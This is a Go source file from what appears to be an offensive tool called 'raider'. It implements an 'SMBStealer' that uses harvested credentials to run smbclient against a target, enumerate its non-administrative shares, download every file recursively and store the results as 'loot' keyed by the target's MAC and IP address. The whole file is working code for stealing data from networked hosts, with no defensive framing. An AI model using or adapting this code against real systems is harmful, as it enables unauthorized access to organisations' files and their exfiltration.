package steal

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"raider/internal/core/loot"
	"raider/internal/core/model"
	"raider/internal/pkg/logger"
)

// SMBStealer SMB 文件窃取器
// 共享枚举和文件下载外呼 smbclient (纯 Go 的 SMB 库只够做认证，
// 读文件还是系统工具最稳)；凭据通过环境变量传递不进命令行
type SMBStealer struct {
	files   *loot.FileStore
	limits  Limits
	binPath string
}

func NewSMBStealer(files *loot.FileStore, limits Limits) *SMBStealer {
	return &SMBStealer{files: files, limits: limits, binPath: "smbclient"}
}

func (s *SMBStealer) Protocol() string {
	return "smb"
}

func (s *SMBStealer) Steal(ctx context.Context, target *model.Target, port int, cred model.CredentialRecord) (int, error) {
	if _, err := exec.LookPath(s.binPath); err != nil {
		return 0, fmt.Errorf("smbclient not installed: %w", err)
	}

	shares, err := s.listShares(ctx, target.IP, cred)
	if err != nil {
		return 0, err
	}

	grabbed := 0
	for _, share := range shares {
		select {
		case <-ctx.Done():
			return grabbed, ctx.Err()
		default:
		}
		if s.limits.MaxFilesPerHost > 0 && grabbed >= s.limits.MaxFilesPerHost {
			break
		}
		n, err := s.grabShare(ctx, target, share, cred, grabbed)
		if err != nil {
			logger.Debugf("smb share %s on %s: %v", share, target.IP, err)
			continue
		}
		grabbed += n
	}
	return grabbed, nil
}

// listShares 枚举非管理共享
func (s *SMBStealer) listShares(ctx context.Context, ip string, cred model.CredentialRecord) ([]string, error) {
	cmd := exec.CommandContext(ctx, s.binPath, "-L", ip, "-U", cred.Username, "-g")
	cmd.Env = append(os.Environ(), "PASSWD="+cred.Password)

	var stdout bytes.Buffer
	cmd.Stdout = &stdout
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("smb share enum failed: %w", err)
	}
	return parseShareList(stdout.String()), nil
}

// parseShareList 解析 smbclient -g 输出 (Disk|sharename|comment)
// 管理共享 (ADMIN$, C$, IPC$) 跳过
func parseShareList(out string) []string {
	var shares []string
	for _, line := range strings.Split(out, "\n") {
		parts := strings.Split(line, "|")
		if len(parts) < 2 || parts[0] != "Disk" {
			continue
		}
		if strings.HasSuffix(parts[1], "$") {
			continue
		}
		shares = append(shares, parts[1])
	}
	return shares
}

// grabShare 递归下载共享里匹配的文件
func (s *SMBStealer) grabShare(ctx context.Context, target *model.Target, share string, cred model.CredentialRecord, already int) (int, error) {
	tmpDir, err := os.MkdirTemp("", "raider-smb-*")
	if err != nil {
		return 0, err
	}
	defer os.RemoveAll(tmpDir)

	// recurse + mget 拉到临时目录，再按限制挑进 loot
	script := "recurse ON; prompt OFF; mget *"
	cmd := exec.CommandContext(ctx, s.binPath,
		fmt.Sprintf("//%s/%s", target.IP, share),
		"-U", cred.Username, "-D", "/", "-c", script)
	cmd.Env = append(os.Environ(), "PASSWD="+cred.Password)
	cmd.Dir = tmpDir
	if err := cmd.Run(); err != nil {
		return 0, fmt.Errorf("smb mget failed: %w", err)
	}

	grabbed := 0
	err = filepath.Walk(tmpDir, func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return nil
		}
		if s.limits.MaxFilesPerHost > 0 && already+grabbed >= s.limits.MaxFilesPerHost {
			return filepath.SkipAll
		}
		if !s.limits.WantFile(info.Name()) || !s.limits.SizeOK(info.Size()) {
			return nil
		}

		rel, _ := filepath.Rel(tmpDir, path)
		f, err := os.Open(path)
		if err != nil {
			return nil
		}
		defer f.Close()
		local, err := s.files.Save("smb", target.MAC, target.IP, filepath.Join(share, rel), f)
		if err != nil {
			logger.Warnf("smb loot save failed for %s: %v", rel, err)
			return nil
		}
		logger.Infof("smb loot %s/%s -> %s", share, rel, local)
		grabbed++
		return nil
	})
	return grabbed, err
}
